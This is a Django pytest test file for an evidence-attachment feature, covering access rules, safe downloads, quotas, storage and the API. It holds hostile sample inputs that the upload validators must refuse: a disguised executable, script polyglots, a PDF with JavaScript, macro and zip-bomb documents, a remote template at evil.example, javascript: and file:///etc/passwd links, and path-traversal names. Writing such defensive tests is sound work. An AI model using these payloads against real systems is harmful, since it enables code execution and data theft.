"""Evidence: files and links on a district's items, read by whoever reads the item, served
only as access-checked downloads, checked before anything is stored."""

import io
import zipfile
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.core.files.storage import storages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from evidence.models import Attachment
from evidence.services import orphans_sweep
from evidence.uploads import safe_name
from planning.models import ActionPlan
from rubrics.models import ConsensusRating, Rating
from tests.buckets import base_settings, serving_bucket
from tests.documents import PDF, docx, pdf
from tests.plan_helpers import add_step, new_step
from tests.rubric_helpers import dimensions_of, rate
from tests.rubric_helpers import url as round_url

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 40


def item_url(district, kind, code):
    return reverse("evidence:item", kwargs={"district": district.code, "kind": kind, "item": code})


def add_files(client, url, *files, back=""):
    data = {
        "action": "files",
        "files": [SimpleUploadedFile(name, content) for name, content in files],
    }
    if back:
        data["back"] = back
    return client.post(url, data)


def stored_files() -> list[Path]:
    root = Path(django_settings.MEDIA_ROOT) / "evidence"
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


@pytest.fixture(autouse=True)
def no_files_left_from_other_tests():
    for path in stored_files():
        path.unlink()


@pytest.fixture
def my_rating(cast, draft_round, framework):
    """Milo's own rating of the first dimension of the draft round."""
    rate(draft_round, cast.member, dimensions_of(framework)[0], 1, evidence="Walkthroughs")
    return Rating.objects.get(rater=cast.member)


@pytest.fixture
def step(cast):
    return new_step(cast.riverside, cast.lead, "Draft criteria")


def download(client, district, attachment):
    return client.get(
        reverse(
            "evidence:download", kwargs={"district": district.code, "attachment": attachment.code}
        )
    )


# ------------------------------------------------------------------ adding, reading, removing


def test_a_member_attaches_files_to_their_rating_and_the_team_downloads_them(
    cast, client_for, my_rating, draft_round
):
    url = item_url(cast.riverside, "rating", my_rating.code)
    response = add_files(
        client_for("member"), url, ("walkthrough tool.pdf", PDF), ("Chart.PNG", PNG), back="item"
    )
    assert response.status_code == 302
    assert response.url.endswith(f"/rate/#dimension-{my_rating.dimension.code}")
    first, second = Attachment.objects.order_by("pk")
    assert (first.name, first.media_type, first.size) == (
        "walkthrough tool.pdf",
        "application/pdf",
        len(PDF),
    )
    assert second.name == "Chart.png" and first.added_by == cast.member
    assert len(stored_files()) == 2
    assert "walkthrough tool" not in first.file.name  # the storage never gets the person's name
    # the rating page lists them with who added them
    page = client_for("member").get(round_url(draft_round, "rate")).content.decode()
    assert "walkthrough tool.pdf" in page and "added by Milo Member" in page
    # the district's team reads the rating, so its files; as downloads only
    for role in ("member", "lead", "viewer"):
        response = download(client_for(role), cast.riverside, first)
        assert response.status_code == 200, role
        assert b"".join(response.streaming_content) == PDF
        assert response["Content-Disposition"] == 'attachment; filename="walkthrough tool.pdf"'
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Type"] == "application/pdf"
        assert "no-store" in response["Cache-Control"]
    # an individual rating never leaves the district: coaches, facilitators, others get 404
    for role in ("coach", "facilitator", "outsider"):
        assert download(client_for(role), cast.riverside, first).status_code == 404, role
    # only its rater adds to it
    assert add_files(client_for("lead"), url, ("x.pdf", PDF)).status_code == 403
    assert add_files(client_for("viewer"), url, ("x.pdf", PDF)).status_code == 403
    assert Attachment.objects.count() == 2


def test_team_rating_files_follow_the_rounds_sharing(
    cast, client_for, submitted_round, django_capture_on_commit_callbacks
):
    consensus = ConsensusRating.objects.filter(round=submitted_round).first()
    url = item_url(cast.riverside, "team-rating", consensus.code)
    assert add_files(client_for("lead"), url, ("minutes.pdf", PDF)).status_code == 302
    assert add_files(client_for("member"), url, ("x.pdf", PDF)).status_code == 403  # leads add
    attachment = Attachment.objects.get()
    # shared with coaches: the coach reads it (on the round page and as a download)
    round_page = client_for("coach").get(round_url(submitted_round, "round")).content.decode()
    assert "minutes.pdf" in round_page
    assert download(client_for("coach"), cast.riverside, attachment).status_code == 200
    # shared with the cohort: the facilitators still read levels only, never evidence
    submitted_round.shared_with = submitted_round.sharing = "cohort"
    submitted_round.save()
    assert download(client_for("facilitator"), cast.riverside, attachment).status_code == 404
    assert client_for("facilitator").get(url).status_code == 404
    # back to the district only: the coach loses it at once
    submitted_round.shared_with = submitted_round.sharing = "district"
    submitted_round.save()
    assert download(client_for("coach"), cast.riverside, attachment).status_code == 404
    assert download(client_for("outsider"), cast.riverside, attachment).status_code == 404
    assert download(client_for("staff"), cast.riverside, attachment).status_code == 200


def test_a_removed_member_reads_no_file_any_more(cast, client_for, step):
    url = item_url(cast.riverside, "step", step.code)
    add_files(client_for("member"), url, ("plan.pdf", PDF))
    attachment = Attachment.objects.get()
    member = client_for("member")
    assert download(member, cast.riverside, attachment).status_code == 200
    cast.member_membership.delete()
    assert download(member, cast.riverside, attachment).status_code == 404
    assert member.get(url).status_code == 404


def test_a_link_is_http_or_https_only(cast, client_for, step):
    url = item_url(cast.riverside, "step", step.code)
    client = client_for("member")
    for bad in (
        "javascript:alert(1)",
        "ftp://files.example.org/x",
        "file:///etc/passwd",
        "data:text/html,x",
    ):
        response = client.post(url, {"action": "link", "title": "Minutes", "url": bad})
        assert response.status_code == 400, bad
        assert (
            "Enter a web address" in response.content.decode()
            or "Enter a valid URL" in response.content.decode()
        )
    response = client.post(
        url, {"action": "link", "title": "", "url": "https://drive.example.org/d/1"}
    )
    assert response.status_code == 400
    assert not Attachment.objects.exists()
    response = client.post(
        url, {"action": "link", "title": "Board minutes", "url": "https://drive.example.org/d/1"}
    )
    assert response.status_code == 302
    link = Attachment.objects.get()
    assert (link.type, link.name, link.url) == (
        "link",
        "Board minutes",
        "https://drive.example.org/d/1",
    )
    page = client.get(
        reverse(
            "planning:action_plan", kwargs={"district": cast.riverside.code, "plan": step.plan.code}
        )
    ).content.decode()
    assert 'href="https://drive.example.org/d/1" rel="noopener noreferrer nofollow"' in page
    assert download(client, cast.riverside, link).status_code == 404  # a link is no file


def test_removing_asks_first_deletes_the_file_and_keeps_the_history(
    cast, client_for, step, django_capture_on_commit_callbacks
):
    url = item_url(cast.riverside, "step", step.code)
    client = client_for("member")
    add_files(client, url, ("plan.pdf", PDF))
    attachment = Attachment.objects.get()
    remove = reverse(
        "evidence:remove", kwargs={"district": cast.riverside.code, "attachment": attachment.code}
    )
    assert client_for("viewer").post(remove).status_code == 403
    confirm = client.get(remove)
    assert confirm.status_code == 200
    assert "Remove “plan.pdf” from this action step?" in confirm.content.decode()
    assert "history keeps its name" in confirm.content.decode()
    assert Attachment.objects.get().removed_at is None and len(stored_files()) == 1
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post(remove).status_code == 302
    attachment.refresh_from_db()
    assert attachment.removed_at and attachment.removed_by == cast.member and not attachment.file
    assert stored_files() == []
    assert download(client, cast.riverside, attachment).status_code == 404
    page = client.get(url).content.decode()
    assert "removed by Milo Member" in page and "Nothing is attached yet" in page


def test_deleting_an_item_deletes_its_files(
    cast, client_for, step, django_capture_on_commit_callbacks
):
    add_files(client_for("member"), item_url(cast.riverside, "step", step.code), ("plan.pdf", PDF))
    assert len(stored_files()) == 1
    with django_capture_on_commit_callbacks(execute=True):
        step.delete()
    assert not Attachment.objects.exists() and stored_files() == []


def test_the_orphan_sweep_removes_only_old_files_nothing_references(cast, client_for, step):
    add_files(client_for("member"), item_url(cast.riverside, "step", step.code), ("plan.pdf", PDF))
    storage = storages["evidence"]
    orphan = storage.save("evidence/old/left-behind.pdf", io.BytesIO(PDF))
    fresh = storage.save("evidence/new/uploading.pdf", io.BytesIO(PDF))
    old = Path(storage.path(orphan))
    import os

    os.utime(old, (old.stat().st_atime - 7200, old.stat().st_mtime - 7200))
    kept = Path(Attachment.objects.get().file.path)
    os.utime(kept, (kept.stat().st_atime - 7200, kept.stat().st_mtime - 7200))
    assert orphans_sweep() == 1
    assert not storage.exists(orphan) and storage.exists(fresh) and kept.exists()


# ------------------------------------------------------------------ hostile uploads


@pytest.mark.parametrize(
    ("name", "content", "why"),
    [
        ("setup.pdf", b"MZ\x90\x00" + b"\x00" * 200, "its content is not a PDF"),
        ("page.html", b"<html><script>alert(1)</script></html>", "only these kinds of file"),
        ("drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "only these kinds of file"),
        ("gifar.png", PNG + b"<html><script>x</script>", "a PNG image and another kind of file"),
        ("pdfzip.pdf", PDF + docx(), "a PDF and another kind of file"),
        (
            "script.pdf",
            pdf(catalog=b"/OpenAction << /S /JavaScript /JS (x) >>"),
            "contains JavaScript, which Acrobat would run",
        ),
        ("fake.docx", b"PK\x03\x04" + b"\x00" * 100, "could not be opened as a Word document"),
        (
            "workbook.docx",
            docx().replace(b"word/document.xml", b"xl/workbook.xmlxx"),
            "not a Word document",
        ),
        ("macros.docx", docx(parts={"word/vbaProject.bin": b"\x00" * 10}), "holds macros"),
        (
            "bomb.docx",
            docx(parts={"word/media/zeros.bin": b"\x00" * (3 * 1024 * 1024)}),
            "zip bomb",
        ),
        ("notes.txt", b"hello\x00world", "binary data"),
        ("notes.txt", b"caf\xe9 latin-1", "UTF-8"),
        ("notes.txt", b"<!DOCTYPE html><script>alert(1)</script>\n", "it is a web page"),
        (
            "template.docx",
            docx(settings_rels=(("attachedTemplate", "http://evil.example/t.dotm", "External"),)),
            "it loads “http://evil.example/t.dotm” from outside the file",
        ),
        ("empty.pdf", b"", "empty"),
    ],
)
def test_a_hostile_upload_is_refused_with_a_reason_and_nothing_is_stored(
    cast, client_for, step, name, content, why
):
    response = add_files(
        client_for("member"),
        item_url(cast.riverside, "step", step.code),
        ("ok.pdf", PDF),
        (name, content),
    )
    assert response.status_code == 400
    page = response.content.decode()
    assert "Nothing was added" in page and why in page.replace("&#x27;", "'")
    assert not Attachment.objects.exists() and stored_files() == []


def test_an_oversized_file_is_refused_before_it_is_received_whole(cast, client_for, step, settings):
    settings.EVIDENCE_MAX_FILE_MB = 1
    big = PDF + b"0" * (1024 * 1024 + 1)
    response = add_files(
        client_for("member"), item_url(cast.riverside, "step", step.code), ("big.pdf", big)
    )
    assert response.status_code == 400
    assert "“big.pdf” is larger than 1.0\xa0MB" in response.content.decode()
    assert not Attachment.objects.exists() and stored_files() == []


def test_the_district_quota_is_shown_and_kept(cast, client_for, step, settings):
    settings.EVIDENCE_DISTRICT_QUOTA_MB = 1
    url = item_url(cast.riverside, "step", step.code)
    client = client_for("member")
    half = pdf(pad=600 * 1024)
    assert add_files(client, url, ("first.pdf", half)).status_code == 302
    page = client.get(url).content.decode()
    assert "of its 1.0\xa0MB for files" in page and "left)" in page
    response = add_files(client, url, ("second.pdf", half))
    assert response.status_code == 400
    assert (
        "the district has" in response.content.decode()
        and "left of its 1.0\xa0MB" in response.content.decode()
    )
    assert Attachment.objects.count() == 1 and len(stored_files()) == 1
    # another district's room is its own
    assert Attachment.objects.filter(district=cast.hillcrest).count() == 0


def test_file_names_are_made_safe():
    assert safe_name("../../etc/passwd.pdf") == "passwd.pdf"
    assert safe_name("C:\\Users\\me\\Board minutes.PDF") == "Board minutes.pdf"
    assert safe_name('a"b<c>|d\r\n.txt') == "a_b_c__d__.txt"
    assert safe_name("") == "file"
    assert safe_name("." * 5) == "file"
    long = safe_name("x" * 400 + ".docx")
    assert len(long) == 150 and long.endswith(".docx")


def test_a_download_name_is_safe_in_the_header(cast, client_for, step):
    url = item_url(cast.riverside, "step", step.code)
    add_files(client_for("member"), url, ("Board <minutes> | 2026?.pdf", PDF))
    attachment = Attachment.objects.get()
    assert attachment.name == "Board _minutes_ _ 2026_.pdf"
    response = download(client_for("member"), cast.riverside, attachment)
    assert response["Content-Disposition"] == 'attachment; filename="Board _minutes_ _ 2026_.pdf"'


# ------------------------------------------------------------------ storage settings


def test_the_storage_is_the_media_folder_by_default_and_s3_when_configured():
    code = (
        "s = base.STORAGES['evidence'];"
        "print(s['BACKEND'], s.get('OPTIONS', {}).get('bucket_name'),"
        " s.get('OPTIONS', {}).get('endpoint_url'), s.get('OPTIONS', {}).get('default_acl'))"
    )
    for extra, expected in (
        ({}, "django.core.files.storage.FileSystemStorage None None None"),
        (
            {
                "EVIDENCE_S3_BUCKET": "district-files",
                "EVIDENCE_S3_ENDPOINT_URL": "https://s3.example.org",
            },
            "storages.backends.s3.S3Storage district-files https://s3.example.org private",
        ),
    ):
        assert base_settings(code, extra) == expected


def test_files_round_trip_through_an_s3_compatible_store(cast, client_for, step, settings):
    """The S3 storage against a real S3 server on a loopback port (moto's server)."""
    with serving_bucket(settings) as bucket:
        url = item_url(cast.riverside, "step", step.code)
        assert add_files(client_for("member"), url, ("plan.pdf", PDF)).status_code == 302
        attachment = Attachment.objects.get()
        keys = bucket.objects()
        assert keys == [attachment.file.name] and keys[0].startswith(
            f"evidence/{cast.riverside.code}/"
        )
        response = download(client_for("member"), cast.riverside, attachment)
        assert b"".join(response.streaming_content) == PDF
        assert stored_files() == []  # nothing in the media folder


def test_every_district_owned_item_kind_is_registered():
    from evidence.kinds import KINDS

    assert set(KINDS) >= {
        "rating",
        "team-rating",
        "step",
        "milestone",
        "policy",
        "competency",
        "indicator",
    }


# ------------------------------------------------------------------ the API


def api_client(person):
    from django.test import Client

    from api.models import ApiToken

    _, token = ApiToken.issue(user=person, name="evidence")
    return Client(HTTP_AUTHORIZATION=f"Bearer {token}")


def test_the_api_lists_adds_downloads_and_removes_with_the_items_rules(
    cast, step, django_capture_on_commit_callbacks
):
    base = f"/api/v1/districts/{cast.riverside.code}/"
    items = f"{base}evidence/step/{step.code}/"
    member = api_client(cast.member)
    response = member.post(items, {"files": [SimpleUploadedFile("minutes.pdf", PDF)]})
    assert response.status_code == 201, response.content
    [added] = response.json()
    assert (added["name"], added["type"], added["size"]) == ("minutes.pdf", "file", len(PDF))
    response = member.post(
        items,
        {"title": "Drive folder", "url": "https://drive.example.org/f"},
        content_type="application/json",
    )
    assert response.status_code == 201
    bad = member.post(
        items, {"title": "x", "url": "javascript:alert(1)"}, content_type="application/json"
    )
    assert bad.status_code == 400 and "url" in bad.json()
    hostile = member.post(items, {"files": [SimpleUploadedFile("setup.pdf", b"MZ" + b"0" * 99)]})
    assert hostile.status_code == 400 and "its content is not a PDF" in str(hostile.json())
    assert [a["name"] for a in member.get(items).json()] == ["minutes.pdf", "Drive folder"]
    # who reads the step reads them; the viewer may not add; the outsider sees nothing
    viewer = api_client(cast.viewer)
    assert viewer.get(items).status_code == 200
    assert viewer.post(items, {"files": [SimpleUploadedFile("x.pdf", PDF)]}).status_code == 403
    assert api_client(cast.outsider).get(items).status_code == 404
    assert api_client(cast.facilitator).get(items).status_code == 404  # evidence
    download = f"{base}attachments/{added['code']}/download/"
    response = api_client(cast.coach).get(download)
    assert response.status_code == 200 and b"".join(response.streaming_content) == PDF
    assert response["Content-Disposition"] == 'attachment; filename="minutes.pdf"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert api_client(cast.outsider).get(download).status_code == 404
    # removal: the item's writers; kept as history
    detail = f"{base}attachments/{added['code']}/"
    assert viewer.delete(detail).status_code == 403
    with django_capture_on_commit_callbacks(execute=True):
        assert member.delete(detail).status_code == 204
    assert member.get(detail).json()["removed_by"] == "Milo Member"
    assert member.get(download).status_code == 404
    assert stored_files() == []


def test_the_api_refuses_a_document_that_could_carry_code_as_the_page_does(cast, step):
    import pikepdf

    document = pikepdf.new()
    document.add_blank_page()
    document.Root.OpenAction = document.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    )
    out = io.BytesIO()
    document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in out.getvalue()  # packed in an object stream
    items = f"/api/v1/districts/{cast.riverside.code}/evidence/step/{step.code}/"
    response = api_client(cast.member).post(
        items, {"files": [SimpleUploadedFile("minutes.pdf", out.getvalue())]}
    )
    assert response.status_code == 400
    assert "“minutes.pdf” was not added: it contains JavaScript" in str(response.json())
    assert not Attachment.objects.exists() and stored_files() == []


# ------------------------------------------------------------------ the district's whole record


def test_a_lead_downloads_the_districts_whole_record_with_its_files(
    cast, client_for, submitted_round, step, meeting, django_capture_on_commit_callbacks
):
    import csv
    import json

    from reports.models import ReportJob
    from tests.meeting_helpers import submit_problem

    submit_problem(
        meeting,
        cast.riverside,
        cast.member,
        "How do we norm scores?",
        topics=["norming", "criteria"],
    )

    add_files(client_for("member"), item_url(cast.riverside, "step", step.code), ("plan.pdf", PDF))
    client_for("member").post(
        item_url(cast.riverside, "step", step.code),
        {"action": "link", "title": "Drive folder", "url": "https://drive.example.org/f"},
    )
    url = reverse("reports:archive_request", kwargs={"district": cast.riverside.code})
    for role, status in (("member", 403), ("viewer", 403), ("coach", 403), ("outsider", 404)):
        assert client_for(role).post(url).status_code == status, role
    lead = client_for("lead")
    with django_capture_on_commit_callbacks(execute=True):
        response = lead.post(url)
    job = ReportJob.objects.get(kind="archive")
    assert response.url == reverse("reports:job", kwargs={"job": job.code})
    assert (job.status, job.progress) == ("done", 100)
    page = lead.get(response.url).content.decode()
    assert "Download the archive (zip)" in page
    download = lead.get(reverse("reports:job_download", kwargs={"job": job.code}))
    assert download["Content-Type"] == "application/zip"
    assert "riverside-school-district-record-" in download["Content-Disposition"]
    archive = zipfile.ZipFile(io.BytesIO(b"".join(download.streaming_content)))
    names = set(archive.namelist())
    assert {
        "README.txt",
        "record.json",
        "rounds.csv",
        "team-ratings.csv",
        "ratings.csv",
        "competencies.csv",
        "competencies.xlsx",
        "long-term-plan.csv",
        "action-steps.csv",
        "policies.csv",
        "engagement.csv",
        "problems-of-practice.csv",
        "commitments.csv",
        "files.csv",
    } <= names
    stored = [n for n in names if n.startswith("files/step/")]
    assert len(stored) == 1 and stored[0].endswith("/plan.pdf")
    assert archive.read(stored[0]) == PDF
    team = list(csv.reader(io.StringIO(archive.read("team-ratings.csv").decode("utf-8-sig"))))
    assert len(team) == 1 + 15 and "Board minutes of March" in team[1]
    listed = list(csv.reader(io.StringIO(archive.read("files.csv").decode("utf-8-sig"))))
    assert [row[1] for row in listed[1:]] == ["plan.pdf", "Drive folder"]
    assert listed[2][3] == "https://drive.example.org/f"
    problems = archive.read("problems-of-practice.csv").decode("utf-8-sig")
    assert "How do we norm scores?" in problems and "Norming teacher assessment scores" in problems
    record = json.loads(archive.read("record.json"))
    assert record["district"]["name"] == "Riverside School District"
    assert record["action-steps"][0]["Description"] == "Draft criteria"
    # nobody else downloads it, nor the lead once they no longer lead the district
    job_download = reverse("reports:job_download", kwargs={"job": job.code})
    assert client_for("member").get(job_download).status_code == 404
    cast.lead_membership.role = "member"
    cast.lead_membership.save()
    assert lead.get(job_download).status_code == 403


def test_a_rating_in_the_api_names_its_code_for_its_files(cast, my_rating, draft_round):
    member = api_client(cast.member)
    base = f"/api/v1/districts/{cast.riverside.code}/"
    ratings = member.get(f"{base}rounds/{draft_round.code}/my-ratings/").json()
    assert ratings[0]["code"] == str(my_rating.code) and ratings[1]["code"] is None
    response = member.post(
        f"{base}evidence/rating/{ratings[0]['code']}/",
        {"files": [SimpleUploadedFile("walkthrough.pdf", PDF)]},
    )
    assert response.status_code == 201


# ------------------------------------------------------------------ problems of practice


@pytest.fixture
def meeting(cast):
    from datetime import date

    from meetings.models import Meeting

    return Meeting.objects.create(
        cohort=cast.cohort, title="Meeting 3", first_date=date(2027, 2, 7)
    )


@pytest.fixture
def hillcrest(cast):
    """A lead of the cohort's other district."""
    from django.test import Client

    from tests.factories import MembershipFactory

    client = Client()
    client.force_login(MembershipFactory(district=cast.hillcrest, role="lead").user)
    return client


def meeting_file_url(meeting, part, item, attachment):
    return reverse(
        "meetings:meeting_file",
        kwargs={
            "meeting": meeting.code,
            "part": part,
            "item": item.code,
            "attachment": attachment.code,
        },
    )


def test_whoever_reads_a_problem_of_practice_reads_its_files_on_the_meeting_page(
    cast, client_for, meeting, hillcrest
):
    from tests.meeting_helpers import submit_problem

    problem = submit_problem(meeting, cast.riverside, cast.member, "How do we norm scores?")
    url = item_url(cast.riverside, "problem", problem.code)
    assert add_files(client_for("member"), url, ("scores.pdf", PDF)).status_code == 302
    assert add_files(client_for("viewer"), url, ("x.pdf", PDF)).status_code == 403
    attachment = Attachment.objects.get()
    file_url = meeting_file_url(meeting, "problems", problem, attachment)
    meeting_url = reverse("meetings:meeting", kwargs={"meeting": meeting.code})
    # the facilitators and the district's team read it; the cohort's other districts do not
    for client in (client_for("facilitator"), client_for("viewer")):
        assert "scores.pdf" in client.get(meeting_url).content.decode()
        response = client.get(file_url)
        assert response.status_code == 200 and b"".join(response.streaming_content) == PDF
    assert "scores.pdf" not in hillcrest.get(meeting_url).content.decode()
    assert hillcrest.get(file_url).status_code == 404
    assert client_for("outsider").get(file_url).status_code == 404
    # shared with the cohort: the other districts read it and its files
    problem.share_with_cohort = True
    problem.save()
    assert "scores.pdf" in hillcrest.get(meeting_url).content.decode()
    assert hillcrest.get(file_url).status_code == 200
    # the coach reads it on the district's side too
    assert client_for("coach").get(url).status_code == 200
    assert client_for("outsider").get(url).status_code == 404


def test_a_districts_part_of_the_meeting_record_carries_files_for_its_readers(
    cast, client_for, meeting, hillcrest
):
    from tests.meeting_helpers import district_record

    commitment = district_record(
        meeting, cast.riverside, cast.member, "Adopt the norming protocol", kind="decision"
    )
    url = item_url(cast.riverside, "record", commitment.code)
    assert add_files(client_for("member"), url, ("protocol.pdf", PDF)).status_code == 302
    attachment = Attachment.objects.get()
    file_url = meeting_file_url(meeting, "commitments", commitment, attachment)
    meeting_url = reverse("meetings:meeting", kwargs={"meeting": meeting.code})
    for role in ("facilitator", "coach", "viewer"):
        assert "protocol.pdf" in client_for(role).get(meeting_url).content.decode(), role
        assert client_for(role).get(file_url).status_code == 200, role
    assert "protocol.pdf" not in hillcrest.get(meeting_url).content.decode()
    assert hillcrest.get(file_url).status_code == 404  # never the cohort's other districts
    wrong_part = file_url.replace("/commitments/", "/minutes/")
    assert client_for("facilitator").get(wrong_part).status_code == 404


# ------------------------------------------------------------------ the facilitators' notes


@pytest.fixture
def note(cast, meeting):
    from tests.meeting_helpers import facilitators_note

    return facilitators_note(meeting, cast.facilitator, "Pair Riverside with Hillcrest on norming")


def note_files_url(meeting, note):
    return reverse("meetings:note_files", kwargs={"meeting": meeting.code, "note": note.code})


def test_the_facilitators_attach_files_to_their_note_and_its_readers_read_them(
    cast, client_for, meeting, note, hillcrest, django_capture_on_commit_callbacks
):
    url = note_files_url(meeting, note)
    facilitator = client_for("facilitator")
    page = facilitator.get(url).content.decode()
    assert "Only the cohort’s facilitators read this note’s" in page and "The cohort uses 0" in page
    response = add_files(facilitator, url, ("Facilitation plan.pdf", PDF))
    assert response.status_code == 302
    link = facilitator.post(
        url, {"action": "link", "title": "Series slides", "url": "https://slides.example.org/s"}
    )
    assert link.status_code == 302
    attachment = Attachment.objects.get(type="file")
    # the cohort's, not a district's: in no district's lists, within the cohort's quota
    assert (attachment.cohort, attachment.district) == (cast.cohort, None)
    assert attachment.file.name.startswith(f"evidence/cohort-{cast.cohort.code}/")
    assert not Attachment.objects.filter(district=cast.riverside).exists()
    file_url = meeting_file_url(meeting, "notes", note, attachment)
    meeting_url = reverse("meetings:meeting", kwargs={"meeting": meeting.code})
    assert "Facilitation plan.pdf" in facilitator.get(meeting_url).content.decode()
    response = facilitator.get(file_url)
    assert response.status_code == 200 and b"".join(response.streaming_content) == PDF
    assert response["Content-Disposition"] == 'attachment; filename="Facilitation plan.pdf"'
    # for the facilitators only: the districts, their coaches and outsiders read nothing
    for client in (client_for("lead"), client_for("coach"), hillcrest, client_for("outsider")):
        assert "Facilitation plan.pdf" not in client.get(meeting_url).content.decode()
        assert client.get(file_url).status_code == 404
        assert client.get(url).status_code == 404
        assert add_files(client, url, ("x.pdf", PDF)).status_code == 404
    # shared with the cohort: every district of the cohort reads it and its files, and only
    # the facilitators add or remove them
    note.share_with_cohort = True
    note.save()
    for client in (client_for("viewer"), hillcrest):
        assert "Facilitation plan.pdf" in client.get(meeting_url).content.decode()
        assert client.get(file_url).status_code == 200
        page = client.get(url).content.decode()
        assert "every district of the cohort read" in page and "Add the files" not in page
        assert add_files(client, url, ("x.pdf", PDF)).status_code == 403
    assert client_for("outsider").get(file_url).status_code == 404
    # removing asks first, keeps the history and deletes the stored file
    remove = reverse(
        "meetings:note_file_remove",
        kwargs={"meeting": meeting.code, "note": note.code, "attachment": attachment.code},
    )
    assert client_for("lead").post(remove).status_code == 403
    assert "The note’s history keeps its name" in facilitator.get(remove).content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        assert facilitator.post(remove).status_code == 302
    assert stored_files() == []
    assert facilitator.get(file_url).status_code == 404
    page = facilitator.get(url).content.decode()
    assert "removed by Fay Facilitator" in page and "Series slides" in page


def test_a_notes_files_go_with_it_and_count_against_the_cohorts_quota(
    cast, client_for, meeting, note, settings, django_capture_on_commit_callbacks
):
    settings.EVIDENCE_DISTRICT_QUOTA_MB = 1
    url = note_files_url(meeting, note)
    facilitator = client_for("facilitator")
    big = pdf(pad=700 * 1024)
    assert add_files(facilitator, url, ("one.pdf", big)).status_code == 302
    response = add_files(facilitator, url, ("two.pdf", big))
    assert response.status_code == 400
    assert "the cohort has" in response.content.decode()
    # a district's quota is its own
    step = ActionPlan.objects.create(district=cast.riverside, goal="G")
    step = add_step(step, cast.lead, "D")
    assert (
        add_files(
            client_for("lead"), item_url(cast.riverside, "step", step.code), ("three.pdf", big)
        ).status_code
        == 302
    )
    with django_capture_on_commit_callbacks(execute=True):
        note.delete()
    assert not Attachment.objects.filter(cohort=cast.cohort).exists()
    assert len(stored_files()) == 1  # the step's


def test_the_api_serves_a_notes_files_by_the_notes_rules(
    cast, meeting, note, django_capture_on_commit_callbacks
):
    files = f"/api/v1/meetings/{meeting.code}/notes/{note.code}/files/"
    facilitator = api_client(cast.facilitator)
    response = facilitator.post(files, {"files": [SimpleUploadedFile("plan.pdf", PDF)]})
    assert response.status_code == 201, response.content
    [added] = response.json()
    hostile = facilitator.post(files, {"files": [SimpleUploadedFile("a.pdf", b"MZ" + b"0" * 99)]})
    assert hostile.status_code == 400
    assert [a["name"] for a in facilitator.get(files).json()] == ["plan.pdf"]
    download = f"{files}{added['code']}/download/"
    response = facilitator.get(download)
    assert response.status_code == 200 and b"".join(response.streaming_content) == PDF
    lead = api_client(cast.lead)
    assert lead.get(files).status_code == 404  # not shared: the districts do not read it
    assert lead.get(download).status_code == 404
    note.share_with_cohort = True
    note.save()
    assert lead.get(download).status_code == 200
    assert lead.post(files, {"files": [SimpleUploadedFile("x.pdf", PDF)]}).status_code == 403
    assert lead.delete(f"{files}{added['code']}/").status_code == 403
    with django_capture_on_commit_callbacks(execute=True):
        assert facilitator.delete(f"{files}{added['code']}/").status_code == 204
    assert facilitator.get(f"{files}{added['code']}/").json()["removed_by"] == "Fay Facilitator"
    assert facilitator.get(download).status_code == 404
    assert stored_files() == []


def test_a_post_that_names_no_known_action_adds_nothing_and_says_so(cast, client_for, step):
    url = item_url(cast.riverside, "step", step.code)
    client = client_for("member")
    response = client.post(url, {"action": "both", "title": "Minutes", "url": "https://a.org"})
    assert response.status_code == 400
    assert "Nothing was added: add files or a link." in response.content.decode()
    response = client.post(
        url, {"action": "link", "title": "Minutes", "url": "https://a.org", "back": "elsewhere"}
    )
    assert response.status_code == 400
    assert "reload the page and add it again" in response.content.decode()
    assert not Attachment.objects.exists()
